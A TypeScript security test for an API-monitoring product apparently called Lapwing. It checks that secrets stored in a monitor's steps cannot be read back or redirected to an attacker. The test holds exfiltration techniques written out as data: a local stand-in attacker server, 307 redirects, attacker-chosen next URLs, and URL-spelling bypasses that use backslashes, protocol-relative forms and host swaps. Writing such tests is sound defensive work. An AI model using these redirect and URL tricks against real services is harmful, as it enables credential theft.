// Tries to get the secrets of an api monitor's steps out: by reading, by changing where they lead, and as the target
// itself.
import { readFileSync, readdirSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { Installation } from '../faults/installation.ts'
import { until } from '../faults/targets.ts'
import type { Trial, TrialResult, TrialSize } from '../kit/run/trials.ts'

const secret = 'correct-horse-battery-staple'
const patience = 120_000

interface Listener {
  readonly url: string
  /** Requests as text: line, headers and body. */
  readonly requests: string[]
  stop(): void
}

export const apiStepSecrets: Trial = {
  name: 'api-step-secrets',
  promise: 'Nobody reads the secrets of an api step, and they go to no origin that its author has not named.',
  hasShortSize: true,
  run,
}

async function run(size: TrialSize): Promise<TrialResult> {
  const lapwing = new Installation({ env: { LAPWING_BROWSERS: '0' } })
  const attacker = await listen(() => ({ status: 200, body: '{}' }))
  const target = await listen((request) => answerOf(request, attacker.url))
  const violations: string[] = []
  try {
    await lapwing.start()
    const id = await lapwing.watch(monitorAt(target.url))
    if (!(await until(() => target.requests.some((one) => one.startsWith('GET /end')), patience)))
      violations.push('The monitor was not checked, so nothing was tried')
    if (!(await until(async () => (await lapwing.list(`/v1/incidents?monitor_id=${id}`)).length > 0, patience)))
      violations.push('No incident opened, so its message and evidence were not read')
    violations.push(...(await readEverywhere(lapwing, id)))
    const attempts = [
      ...changesTo(target.url, attacker.url),
      ...(size === 'full' ? mixes(target.url, attacker.url) : []),
    ]
    violations.push(...(await moveSecrets(lapwing, id, attempts)))
    const before = target.requests.length
    const isCheckedAgain = (): boolean => target.requests.slice(before).some((one) => one.startsWith('GET /end'))
    if (!(await until(isCheckedAgain, patience))) violations.push('The monitor was not checked again after the changes')
    const leaks = attacker.requests.filter((request) => request.includes(secret))
    violations.push(...leaks.map((request) => `The attacker received: ${request.slice(0, 200)}`))
    if (attacker.requests.length === 0) violations.push('The attacker was not reached at all, so nothing was tried')
    if (!target.requests.some((request) => request.includes(secret)))
      violations.push('The target did not get its secret')
    if (lapwing.log.some((line) => line.includes(secret))) violations.push('The log shows a secret')
    const files = filesWith(secret, lapwing.dataDir)
    violations.push(...files.map((file) => `The data folder holds a secret in clear text: ${file}`))
    const figures = { attempts: attempts.length, requestsToAttacker: attacker.requests.length }
    return { figures, violations }
  } finally {
    await lapwing.stop()
    for (const server of [attacker, target]) server.stop()
  }
}

const pair = (key: string, value: string): object => ({ key, value })
const headers = [pair('X-Api-Key', secret), pair('Cookie', `sid=${secret}`)]
const queryParams = [pair('token', secret)]
const requestBody = JSON.stringify({ password: secret })

/** The target repeats all it gets, names the attacker as the next page, and redirects to it. */
function monitorAt(target: string): object {
  const step = { requestHeaders: headers, continueOnFailure: true }
  const extract = [
    { name: 'next', source: 'json_path', property: '$.next' },
    { name: 'suffix', source: 'json_path', property: '$.suffix' },
    { name: 'echo', source: 'regexp', property: '(password.*)' },
  ]
  const assertions = [{ source: 'text', comparison: 'eq', target: 'nothing of the kind' }]
  return {
    name: 'Steps',
    type: 'api',
    target,
    config: {
      confirmationThreshold: 1,
      steps: [
        { ...step, name: 'Echo', method: 'POST', url: '/echo', requestBody, queryParams, extract, assertions },
        { ...step, name: 'Redirected', method: 'POST', url: '/redirect', requestBody, queryParams },
        { ...step, name: 'Chosen', url: '{{next}}' },
        { ...step, name: 'Chosen with a body', method: 'POST', url: '{{next}}', requestBody },
        { ...step, name: 'Chosen with parameters', url: '{{next}}', queryParams },
        { ...step, name: 'Suffixed', method: 'POST', url: 'http://127.0.0.1{{suffix}}', requestBody },
        { name: 'End', url: '/end' },
      ],
    },
  }
}

function answerOf(request: string, attacker: string): { status: number; location?: string; body: string } {
  if (request.startsWith('POST /redirect')) return { status: 307, location: `${attacker}/redirected`, body: request }
  const suffix = `${attacker.replace('http://127.0.0.1', '')}/suffixed`
  return { status: 500, body: JSON.stringify({ echo: request, next: `${attacker}/chosen`, suffix }) }
}

/** Every response that could show a secret. */
async function readEverywhere(lapwing: Installation, id: string): Promise<string[]> {
  const [incident] = await lapwing.list(`/v1/incidents?monitor_id=${id}`)
  const paths = [
    `/v1/monitors/${id}`,
    '/v1/monitors?type=api',
    `/v1/activity?entity_id=${id}`,
    `/v1/monitors/${id}/checks`,
    `/v1/monitors/${id}/alert-rules`,
    '/v1/notifications',
    ...['', '/evidence', '/timeline'].map((part) => `/v1/incidents/${incident?.id}${part}`),
  ]
  const operations = [{ method: 'GET', path: `/monitors/${id}` }]
  const answers = [
    ...(await Promise.all(paths.map(async (path) => [path, await lapwing.ask(path)] as const))),
    ['/v1/batch', await lapwing.ask('/v1/batch', { method: 'POST', body: { operations } })] as const,
  ]
  return answers.flatMap(([path, { status, body }]) => [
    ...(status === 200 ? [] : [`${path} answered ${status}, so it was not read`]),
    ...(JSON.stringify(body).includes(secret) ? [`${path} shows a secret`] : []),
  ])
}

interface Change {
  readonly target?: string
  readonly config?: object
}

const spellings = (target: string, attacker: string): string[] => {
  const host = attacker.replace('http://', '')
  return [
    `${attacker}/echo`,
    `//${host}/echo`,
    `http:\\\\${host}\\echo`,
    `http:/\\${host}/echo`,
    ` ${attacker}/echo`,
    `${attacker}/{{next}}`,
    target.replace('127.0.0.1', 'localhost'),
    `${target.replace('http:', 'https:')}/echo`,
  ]
}

/** Changes that would send stored secrets elsewhere; each must be refused. */
function changesTo(target: string, attacker: string): Change[] {
  const masked = '[redacted]'
  const step = { name: 'Echo', method: 'POST', requestBody: masked }
  return [
    { target: attacker },
    { target: `${target.replace('http:', 'https:')}/` },
    { target: attacker, config: { steps: [{ ...step, url: '/echo' }] } },
    { target: attacker, config: { steps: masked } },
    { config: { verifyTls: false } },
    ...spellings(target, attacker).map((url) => ({ config: { steps: [{ ...step, url }] } })),
    { config: { steps: [{ ...step, name: 'Renamed', url: `${attacker}/echo` }] } },
    { config: { steps: [{ ...step, url: '/echo', requestHeaders: [pair('X-Other', masked)] }] } },
    { config: { steps: [{ ...step, url: '/echo', requestBody: 'x', queryParams: [pair('password', masked)] }] } },
    { config: { requestHeaders: [pair('X-Api-Key', masked)] } },
    { config: { queryParams: [pair('token', masked)], steps: null } },
    { config: { steps: [{ ...step, url: { href: secret } }] } },
  ]
}

/** Every name with every url, target and part. */
function mixes(target: string, attacker: string): Change[] {
  const masked = '[redacted]'
  const parts = [
    { requestBody: masked },
    { requestHeaders: [pair('X-Api-Key', masked)] },
    { queryParams: [pair('token', masked)] },
  ]
  const names = ['Echo', 'Redirected', 'Chosen with a body', 'Suffixed', 'Another']
  return names.flatMap((name) =>
    parts.flatMap((part) =>
      spellings(target, attacker).flatMap((url) => [
        { config: { steps: [{ name, method: 'POST', url, ...part }] } },
        { target: attacker, config: { steps: [{ name, method: 'POST', url, ...part }] } },
      ]),
    ),
  )
}

async function moveSecrets(lapwing: Installation, id: string, changes: readonly Change[]): Promise<string[]> {
  const violations: string[] = []
  for (const change of changes) {
    const { status, body } = await lapwing.ask(`/v1/monitors/${id}`, { method: 'PATCH', body: change })
    if (status !== 400) violations.push(`PATCH ${JSON.stringify(change)} answered ${status} instead of 400`)
    if (JSON.stringify(body).includes(secret)) violations.push(`PATCH ${JSON.stringify(change)} shows a secret`)
  }
  return violations
}

function filesWith(text: string, folder: string): string[] {
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map(({ parentPath, name }) => join(parentPath, name))
    .filter((path) => readFileSync(path).includes(text))
}

async function listen(
  answer: (request: string) => { status: number; location?: string; body: string },
): Promise<Listener> {
  const requests: string[] = []
  const server = createServer((request, response) => {
    let body = ''
    request.on('data', (piece) => (body += piece))
    request.on('end', () => {
      const text = `${request.method} ${request.url}\n${request.rawHeaders.join('\n')}\n\n${body}`
      requests.push(text)
      const { status, location, body: answered } = answer(text)
      response.writeHead(status, { connection: 'close', ...(location && { location }) }).end(answered)
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  return { url: `http://127.0.0.1:${port}`, requests, stop: () => void server.close() }
}
